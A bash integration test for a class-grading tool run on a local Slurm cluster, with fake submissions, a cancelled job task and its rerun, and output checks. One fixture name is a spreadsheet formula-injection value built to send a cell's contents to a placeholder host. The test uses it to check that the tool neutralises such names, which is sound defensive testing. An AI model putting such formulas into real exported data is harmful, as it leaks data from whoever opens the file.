#!/usr/bin/env bash
# A class graded on a Slurm cluster (CTest: Grader.Slurm.class, label slurm): a one-machine
# cluster started here (slurm_local.sh), an export of 21 submissions of stages 01 and 02
# (cohort_lib.sh's class and eight more: references, a partial one, planted bugs, a compile
# error, a disguised copy, a formula as a name) graded by `rt-grade batch --slurm` as a job array
# and a collector. One task is cancelled while it runs: the collector names it as not finished;
# rerun alone, it completes the class, and scores.csv and changes.csv must be byte-identical to
# a local `rt-grade batch` of the same export. Prints the seconds of each.
#   slurm_class.sh BIN_DIR SRC_DIR
set -u -o pipefail
bin=$1 src=$(cd "$2" && pwd) case=slurm
source "$(dirname "$0")/case_lib.sh"
source "$(dirname "$0")/disguise.sh"
source "$(dirname "$0")/cohort_lib.sh"
source "$(dirname "$0")/slurm_local.sh"
trap 'slurm_stop; rm -rf "$work"' EXIT
trap 'exit 1' INT TERM  # so that EXIT's trap stops the daemons
fail() { echo "FAIL: $*"; exit 1; }
stages=1,2
# Arrays of at most 8 tasks (MaxArraySize 8): the 21 submissions go as three arrays, and the
# cancelled task, manifest line 13 (a whole reference: seconds of grading), is task 5 of the
# second (RT_GRADE_OFFSET=8).
export SLURM_MAX_ARRAY_SIZE=8
victim=13

add_more() {
  submission "Mo Reyes" 113 84 130;       ref1; ref2
  submission "Ned Park" 114 84 140;       ref1; ref2
  submission "Ola Nowak" 115 18 150;      ref1; stub2                # stage 01 only
  submission "Pia Rossi" 116 70 160;      ref2
  sed 's|Vec2 pixel, ImageSize size) {|Vec2 pixel, ImageSize size) {\n    pixel -= Vec2(0.5);|' \
    "$src/$s1/camera_rays.cpp" > "$dir/camera_rays.cpp"
  submission "Quin Hale" 117 0 170;       ref2; { ref1; echo 'int broken = ;' >> "$dir/camera_rays.cpp"; }
  submission "Rui Costa" 118 84 180;      ref1
  disguise "$src/$s2/intersections.cpp" | sed 's/\bdisc\b/gap/g' > "$dir/intersections.cpp"
  submission '=HYPERLINK("http://x/?"&A1)' 119 0 190; stub1; stub2
  submission "Sam Ito" 120 84 200;        ref1; ref2
}

# The ids sbatch gave, from rt-grade's lines "slurm: job ID grades ..." (the Nth array) and
# "... writes ..." (the collector).
job_of() { sed -n "s/^slurm: job \([0-9]*\) $1.*/\1/p" "$work/slurm.log" | sed -n "${2:-1}p"; }

add_class
add_more
write_export
slurm_start "$work/cluster" || exit 1

start=$(date +%s)
"$bin/rt-grade" batch "$work/export.zip" --out "$work/local" --stages $stages --jobs 2 \
  --source "$src" > "$work/local.log" 2>&1 || { cat "$work/local.log"; fail "the local batch"; }
local_s=$(( $(date +%s) - start ))
[[ $(($(wc -l < "$work/local/scores.csv") - 1)) -eq 21 ]] || { cat "$work/local/scores.csv"; fail "not 21 rows"; }

start=$(date +%s)
"$bin/rt-grade" batch "$work/export.zip" --out "$work/cluster-grades" --stages $stages --slurm \
  --source "$src" > "$work/slurm.log" 2>&1 || { cat "$work/slurm.log"; fail "rt-grade batch --slurm"; }
cat "$work/slurm.log"
array=$(job_of grades 2) collector=$(job_of writes)
[[ -n $array && -n $collector && -n $(job_of grades 3) ]] || fail "not three arrays and a collector in rt-grade's output"
task=$((victim - 8))
slurm_wait_for "task $victim running" 300 bash -c "squeue -h -t R -j ${array}_$task | grep -q ."
scancel "${array}_$task" || fail "scancel"
slurm_wait_done "$collector" 600 || exit 1
grades=$work/cluster-grades
name=$(jq -r ".submissions[$victim].name" "$grades/.slurm/manifest.json")
grep -q "^\"$name\",.*\"grader error: its Slurm task did not finish\"" "$grades/scores.csv" ||
  { cat "$grades/scores.csv"; fail "the cancelled task's row does not say it did not finish"; }
rerun=$(grep -A1 "rerun them, then collect again" "$grades/.slurm/logs/collect.log" | tail -n 1)
grep -q -- "--array=$task --export=ALL,RT_GRADE_OFFSET=8 " <<< "$rerun" ||
  { cat "$grades/.slurm/logs/collect.log"; fail "the collector does not say how to rerun task $victim"; }
echo "ok: task $victim ($name) cancelled; the collector names it and the command that reruns it"

# The collector's own command, as an instructor would paste it.
again=$(eval "$rerun" | sed -n 's/^Submitted batch job \([0-9]*\)$/\1/p') || fail "the rerun command"
[ -n "$again" ] || fail "the rerun command submitted no collector: $rerun"
slurm_wait_done "$again" 600 || exit 1
slurm_s=$(( $(date +%s) - start ))
for f in scores.csv changes.csv; do
  cmp "$work/local/$f" "$grades/$f" || { diff "$work/local/$f" "$grades/$f"; fail "$f differs from the local batch's"; }
done
[ -s "$grades/index.html" ] || fail "no dashboard"
grep -q "'=HYPERLINK" "$grades/scores.csv" || fail "the formula name is not neutralised"
echo "ok: 21 submissions; scores.csv and changes.csv byte-identical to the local batch's"
echo "seconds: local batch --jobs 2: $local_s; Slurm (array, a cancelled task rerun, two collections): $slurm_s"
